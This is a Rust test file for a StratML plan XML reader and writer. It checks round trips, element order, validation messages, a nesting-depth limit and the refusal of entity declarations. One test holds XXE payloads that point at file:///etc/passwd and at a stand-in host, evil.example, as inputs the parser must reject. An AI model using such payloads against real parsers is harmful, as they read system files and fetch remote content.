use super::*;

fn date(s: &str) -> NaiveDate {
    s.parse().unwrap()
}

fn sample() -> Document {
    let measure = Indicator {
        name: "Cases closed <on time> & \"well\"".into(),
        unit: "cases".into(),
        measured: Measured::Measure(MeasureFacts {
            kind: Kind::Quantitative,
            direction: Direction::Lower,
            aggregation: Aggregation::Sum,
            baseline: Some((12.5, Some(2025))),
            data_source: "Case system\nsecond line".into(),
            verification: String::new(),
            limitations: "Déjà vu — ünïcode".into(),
            attached: Some((Level::Goal, "4".into())),
        }),
        results: vec![
            Outcome {
                actual: false,
                fiscal_year: 2027,
                period: 0,
                start: date("2026-10-01"),
                end: date("2027-09-30"),
                units: Some(1200.0),
                descriptors: vec![],
                description: period_words(2027, 0, false),
            },
            Outcome {
                actual: true,
                fiscal_year: 2027,
                period: 1,
                start: date("2026-10-01"),
                end: date("2026-12-31"),
                units: None,
                descriptors: vec![("Data".into(), "Not yet available".into())],
                description: "late & <partial>".into(),
            },
        ],
    };
    Document {
        name: "Plan & Co. <2027>".into(),
        organisation: "Office of Résumés".into(),
        fiscal_year: 2027,
        start: Some(date("2026-10-01")),
        end: Some(date("2027-09-30")),
        published: Some(date("2026-11-15")),
        goals: vec![Goal {
            number: "4".into(),
            name: Some("Infrastructure".into()),
            statement: Some("Build <things> & keep them".into()),
            items: vec![
                Item {
                    number: "4.1".into(),
                    strategy: false,
                    text: Some("Objective one".into()),
                    indicators: vec![measure],
                    ..Item::default()
                },
                Item {
                    number: "4.1.3".into(),
                    strategy: true,
                    text: Some("Do the thing".into()),
                    owner_office: Some("OIT".into()),
                    owner_person: None,
                    indicators: vec![],
                },
            ],
        }],
        ..Document::default()
    }
}

#[test]
fn a_written_document_reads_back_the_same() {
    let doc = sample();
    let xml = write(&doc);
    assert!(xml.contains("<Identifier>s-4.1.3</Identifier>"), "{xml}");
    assert!(xml.contains("&amp;"), "{xml}");
    assert!(xml.contains("Résumés"), "{xml}");
    assert_eq!(read(&xml).unwrap(), doc);
}

#[test]
fn results_keep_the_schema_order() {
    let xml = write(&sample());
    let at = |s: &str| xml.find(s).unwrap();
    assert!(at("<StartDate>") < at("<EndDate>"));
    assert!(at("<EndDate>") < at("<NumberOfUnits>"));
    assert!(at("<TargetResult>") < at("<ActualResult>"));
    let actual = &xml[at("<ActualResult>")..];
    assert!(actual.find("<Descriptor>").unwrap() < actual.find("<Description>").unwrap());
}

#[test]
fn decimals_are_plain() {
    assert_eq!(decimal(1e20), "100000000000000000000");
    assert_eq!(decimal(2.5), "2.5");
    assert_eq!(decimal(-3.0), "-3");
    assert!(!decimal(1e-7).contains('e'));
}

#[test]
fn drifted_files_are_read() {
    let xml = r#"<?xml version="1.0"?>
<PerformancePlanOrReport xmlns="http://www.stratml.net/PerformancePlanOrReport" Type="Performance_Plan">
  <Name>Old plan</Name>
  <StrategicPlanCore>
    <Goal>
      <Name>Serve</Name>
      <Description/>
      <SequenceIndicator>2</SequenceIndicator>
      <Objective>
        <Name>First</Name>
        <Identifier>_a1b2c3</Identifier>
        <PerformanceIndicator IndicatorType="Qualitative">
          <MeasurementDimension>Launch</MeasurementDimension>
          <UnitOfMeasurement/>
        </PerformanceIndicator>
      </Objective>
      <Objective><Name>Second</Name></Objective>
      <Objective><Name>Third</Name><SequenceIndicator>2.1.4</SequenceIndicator></Objective>
    </Goal>
  </StrategicPlanCore>
</PerformancePlanOrReport>"#;
    let doc = read(xml).unwrap();
    let g = &doc.goals[0];
    assert_eq!(g.number, "2");
    let numbers: Vec<_> = g
        .items
        .iter()
        .map(|i| (i.number.as_str(), i.strategy))
        .collect();
    assert_eq!(numbers, [("2.1", false), ("2.2", false), ("2.1.4", true)]);
    let Measured::Measure(f) = &g.items[0].indicators[0].measured else {
        panic!("a measure")
    };
    assert_eq!(f.kind, Kind::Milestone);
    let outline = doc.outline();
    assert_eq!(outline.goals[0].objectives[0].strategies[0].number, "2.1.4");
}

#[test]
fn not_stratml_is_a_clear_error() {
    assert!(read("<html></html>")
        .unwrap_err()
        .0
        .contains("not a StratML plan"));
    assert!(read("<PerformancePlanOrReport><Name>x").is_err());
}

/// `sample()` with its measure's results replaced.
fn with_results(kind: Kind, results: Vec<Outcome>) -> Document {
    let mut doc = sample();
    let ind = &mut doc.goals[0].items[0].indicators[0];
    if let Measured::Measure(f) = &mut ind.measured {
        f.kind = kind;
        f.aggregation = Aggregation::Latest;
    }
    ind.results = results;
    doc
}

fn outcome(actual: bool, fy: i32, period: u8, units: Option<f64>) -> Outcome {
    Outcome {
        actual,
        fiscal_year: fy,
        period,
        start: date("2026-10-01"),
        end: date("2026-12-31"),
        units,
        descriptors: vec![],
        description: String::new(),
    }
}

#[test]
fn a_valid_document_has_no_problems() {
    assert_eq!(problems(&sample()), Vec::<String>::new());
}

#[test]
fn values_a_form_would_refuse_are_problems() {
    let milestone = with_results(
        Kind::Milestone,
        vec![
            outcome(false, 2027, 0, Some(1.0)),
            outcome(true, 2027, 1, Some(0.5)),
        ],
    );
    let found = problems(&milestone);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].contains("FY2027 Q1 actual") && found[0].contains("0.5 is neither 1"),
        "{found:?}"
    );

    let huge = with_results(
        Kind::Quantitative,
        vec![outcome(false, 2027, 2, Some(1e15))],
    );
    assert!(
        problems(&huge)[0].contains("under a trillion"),
        "{:?}",
        problems(&huge)
    );

    let ancient = with_results(Kind::Quantitative, vec![outcome(true, 1850, 1, Some(3.0))]);
    assert!(
        problems(&ancient)[0].contains("FY1850"),
        "{:?}",
        problems(&ancient)
    );
}

#[test]
fn a_measure_definition_follows_the_form() {
    let mut doc = sample();
    doc.goals[0].items[0].indicators[0].unit = "u".repeat(41);
    let found = problems(&doc);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].contains("unit under 40 characters"), "{found:?}");
    // And `read` refuses such a file whole, naming the problem.
    let err = read(&write(&doc)).unwrap_err().0;
    assert!(
        err.starts_with("The file has 1 problem, so nothing in it can be imported."),
        "{err}"
    );
}

#[test]
fn an_unknown_status_is_a_problem_and_a_missing_one_is_not_started() {
    let mut doc = sample();
    let mut r = outcome(true, 2027, 1, Some(40.0));
    assert_eq!(status_of(&r), Ok(crate::model::status::Status::NotStarted));
    r.descriptors = vec![("Status".into(), "Greenish".into())];
    assert!(status_of(&r)
        .unwrap_err()
        .contains("\"Greenish\" is not one of"));
    doc.goals[0].items[1].indicators.push(Indicator {
        name: "Quarterly status".into(),
        unit: "Percent complete".into(),
        measured: Measured::Status,
        results: vec![r],
    });
    let found = problems(&doc);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(
        found[0].starts_with("The status of 4.1.3 in FY2027 Q1"),
        "{found:?}"
    );
}

/// `depth` nested elements inside a plan's root.
fn nested(depth: usize) -> String {
    let mut xml = String::from("<PerformancePlanOrReport>");
    xml.push_str(&"<a>".repeat(depth));
    xml.push_str(&"</a>".repeat(depth));
    xml.push_str("</PerformancePlanOrReport>");
    xml
}

#[test]
fn a_file_nested_a_hundred_thousand_deep_is_refused_without_recursing() {
    let deep = nested(100_000);
    assert_eq!(check_shape(&deep), Some(ShapeProblem::TooDeep));
    let err = read(&deep).unwrap_err().0;
    assert!(err.contains("more than 64 levels deep"), "{err}");
    assert!(err.contains(&MAX_DEPTH.to_string()));
    // Unclosed, too: refused before any tree deeper than the limit exists.
    let unclosed = "<a>".repeat(100_000);
    assert_eq!(check_shape(&unclosed), Some(ShapeProblem::TooDeep));
    assert!(read(&unclosed).unwrap_err().0.contains("levels deep"));
    // At the limit the file is read (and refused for what it lacks, not for depth).
    let at_limit = nested(MAX_DEPTH - 1);
    assert_eq!(check_shape(&at_limit), None);
    assert!(!read(&at_limit).unwrap_err().0.contains("levels deep"));
}

#[test]
fn any_entity_declaration_or_internal_subset_is_refused() {
    let plan = write(&sample());
    let body = plan.trim_start_matches(|c| c != '\n');
    for doctype in [
        r#"<!DOCTYPE PerformancePlanOrReport [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE PerformancePlanOrReport [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>"#,
        r#"<!DOCTYPE PerformancePlanOrReport [<!ELEMENT Name ANY>]>"#,
    ] {
        let xml = format!("<?xml version=\"1.0\"?>\n{doctype}{body}");
        assert_eq!(check_shape(&xml), Some(ShapeProblem::Entities), "{doctype}");
        let err = read(&xml).unwrap_err().0;
        assert!(err.contains("declares entities"), "{doctype}: {err}");
    }
    // A plain DOCTYPE naming the root declares nothing and is read.
    let xml = format!("<?xml version=\"1.0\"?>\n<!DOCTYPE PerformancePlanOrReport>{body}");
    assert_eq!(check_shape(&xml), None);
    assert!(read(&xml).is_ok());
}

#[test]
fn a_status_with_several_descriptors_round_trips_one_descriptor_a_result() {
    let mut doc = sample();
    let mut r = outcome(true, 2027, 1, Some(40.0));
    r.descriptors = vec![
        ("Status".into(), "On track".into()),
        ("Issues".into(), "Two staff short".into()),
        ("Next steps".into(), "Hire two".into()),
    ];
    r.description = "Done".into();
    doc.goals[0].items[1].indicators.push(Indicator {
        name: "Quarterly status".into(),
        unit: "Percent complete".into(),
        measured: Measured::Status,
        results: vec![r],
    });
    let xml = write(&doc);
    let results: Vec<&str> = xml.split("<ActualResult>").skip(1).collect();
    assert!(results.len() >= 4, "{xml}");
    for result in results {
        let body = result.split("</ActualResult>").next().unwrap();
        assert!(body.matches("<Descriptor>").count() <= 1, "{body}");
    }
    // The published order inside an indicator: dimension, unit, then the identifier.
    let at = |s: &str| xml.find(s).unwrap();
    assert!(at("<MeasurementDimension>Quarterly status") < at("<Identifier>st-4.1.3"));
    assert!(at("<UnitOfMeasurement>Percent complete") < at("<Identifier>st-4.1.3"));
    assert_eq!(read(&xml).unwrap(), doc);

    // The layout written before (identifier first, every descriptor in one result)
    // reads the same.
    let old = xml
        .replace(
            "<MeasurementDimension>Quarterly status</MeasurementDimension>\n          <UnitOfMeasurement>Percent complete</UnitOfMeasurement>\n          <Identifier>st-4.1.3</Identifier>",
            "<Identifier>st-4.1.3</Identifier><MeasurementDimension>Quarterly status</MeasurementDimension><UnitOfMeasurement>Percent complete</UnitOfMeasurement>",
        )
        .replace(
            "</Descriptor>\n              <Description>Done</Description>\n            </ActualResult>",
            "</Descriptor><Descriptor><DescriptorName>Issues</DescriptorName><DescriptorValue>Two staff short</DescriptorValue></Descriptor><Descriptor><DescriptorName>Next steps</DescriptorName><DescriptorValue>Hire two</DescriptorValue></Descriptor><Description>Done</Description></ActualResult><!--",
        )
        .replace("</MeasurementInstance>\n          <OtherInformation>Quarterly", "--></MeasurementInstance><OtherInformation>Quarterly");
    assert_ne!(old, xml);
    assert!(
        old.contains("<Identifier>st-4.1.3</Identifier><MeasurementDimension>"),
        "{old}"
    );
    assert_eq!(read(&old).unwrap(), doc, "{old}");
}
